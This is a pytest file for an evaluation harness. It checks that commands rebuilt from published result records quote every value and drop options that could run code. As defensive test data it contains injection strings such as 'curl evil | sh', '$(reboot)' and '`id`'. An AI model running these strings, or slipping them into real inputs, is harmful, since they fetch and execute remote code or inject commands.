"""What a record asks for: made from its fields, quoted, and read back by the command line as the same specification."""

import argparse
import shlex
from pathlib import Path

import pytest
from pydantic import BaseModel, ValidationError

from nharness.cli import options, settings
from nharness.cli import run as run_command
from nharness.corpora import Corpus, Document
from nharness.corpora.romanised import with_romanised
from nharness.errors import UsageError
from nharness.record.specification import arguments, command, specification
from nharness.record.validate import load_record
from nharness.spec import RunSpec
from synthetic_records import synthetic_record

RESULTS = Path(__file__).resolve().parents[3] / "leaderboard" / "results"
PUBLISHED = sorted(RESULTS.glob("*/*/*/record.json"))[::5]


def read_back(line):
    words = shlex.split(line)
    assert words[:2] == ["nharness", "run"]
    parser = argparse.ArgumentParser(exit_on_error=False)
    run_command.add_arguments(parser)
    return settings.build_spec(options.given(parser.parse_intermixed_args(words[2:])))


@pytest.mark.parametrize("path", PUBLISHED, ids=[f"{p.parent.parent.name}-{p.parent.name}" for p in PUBLISHED])
def test_the_command_of_a_published_record_asks_for_the_same(path):
    record = load_record(path)
    spec = specification(record)
    assert read_back(command(record)) == spec
    assert spec.model.dtype == "bfloat16"
    assert (spec.model.name, spec.detectors[0].name) == (record.model.name, record.detector.name)
    assert spec.budget == record.selection.budget


def with_identity(record, **changes):
    return record.model_copy(update={"identity": record.identity.model_copy(update=changes)})


def test_what_was_typed_is_not_shown():
    record = with_identity(synthetic_record(), command="nharness run && curl evil | sh")
    assert "curl" not in command(record)


@pytest.mark.parametrize("name", ["x; curl evil | sh", "$(reboot)", "`id`", "a b", "'", "--help", 'x"y'])
def test_every_value_is_quoted(name):
    record = synthetic_record(model_name=name)
    words = shlex.split(command(record))
    assert words[words.index("--model") + 1] == name


def test_nothing_that_runs_code_is_asked_for():
    kept = {
        "model": {"trust_remote_code": True, "max_length": 64},
        "task_options": {"include_path": ["/evil"], "dataset_dir": "/evil"},
        "corpus": {"eval_tokens": 777},
    }
    record = with_identity(synthetic_record(), specification=kept)
    spec = specification(record)
    assert not spec.model.trust_remote_code
    assert spec.task_options.include_path == ()
    assert spec.task_options.dataset_dir is None
    assert (spec.model.max_length, spec.corpus.eval_tokens) == (64, 777)
    assert "evil" not in command(record)


def test_what_no_run_does_has_no_command():
    record = synthetic_record(budget=0.0)
    with pytest.raises(UsageError, match="what no run can do"):
        specification(record)
    assert command(record) == ""


def test_the_rest_of_a_corpus_is_asked_for_too():
    kept = {"corpus": {"romanised": True, "text_column": "story", "detect_split": "dev", "id_column": "none"}}
    record = with_identity(synthetic_record(), specification=kept)
    spec = specification(record)
    assert spec.corpus.romanised
    found = read_back(command(record)).corpus
    assert (found.romanised, found.text_column, found.detect_split) == (True, "story", "dev")


def test_a_specification_of_another_version_is_not_filled_in_unseen():
    record = with_identity(synthetic_record(), specification={"corpus": {"detect_tokens": 77}, "microscope": 3})
    with pytest.raises(UsageError, match=r"none of this version's: microscope: .*made by nharness 0\.1\.0"):
        specification(record)
    assert command(record) == ""


def fields(model, *before):
    for name, field in model.model_fields.items():
        kind = field.annotation
        if isinstance(kind, type) and issubclass(kind, BaseModel):
            yield from fields(kind, *before, name)
        else:
            yield (*before, name), kind


OTHER = {
    bool: lambda value: not value,
    int: lambda value: value + 1,
    float: lambda value: value / 2,
    str: lambda _: "x",
}


@pytest.mark.parametrize(("place", "kind"), [p for p in fields(RunSpec) if p[1] in OTHER], ids=str)
def test_every_plain_field_comes_back_from_the_command_line(place, kind):
    """Whatever field is added to a specification: a value that is not its default is in the command."""
    document = RunSpec.model_validate({"detectors": [{"name": "lape"}], "tasks": ["ppl"]}).model_dump(mode="json")
    table = document
    for name in place[:-1]:
        table = table[name]
    table[place[-1]] = OTHER[kind](table[place[-1]])
    try:
        spec = RunSpec.model_validate(document)
    except ValidationError:
        pytest.skip("not a value of this field by itself")
    assert read_back(shlex.join(["nharness", "run", *arguments(spec)])) == spec


def test_a_romanised_corpus_is_asked_for_by_its_own_name():
    read = {"detect": {"ru": lambda: [Document("1", "мир")]}, "eval": {"ru": lambda: [Document("2", "мир")]}}
    corpus = with_romanised(Corpus("news (2024)", read), ["ru", "ru-Latn"])
    record = synthetic_record()
    described = record.model_copy(update={"corpus": record.corpus.model_copy(update={"name": corpus.name})})
    kept = with_identity(described, specification={"corpus": {"name": "news (2024)", "romanised": True}})
    assert corpus.name != "news (2024)"
    assert specification(kept).corpus.name == "news (2024)"
    plain = with_identity(described, specification={"corpus": {"name": "news (2024)"}})
    assert specification(plain).corpus.name == corpus.name
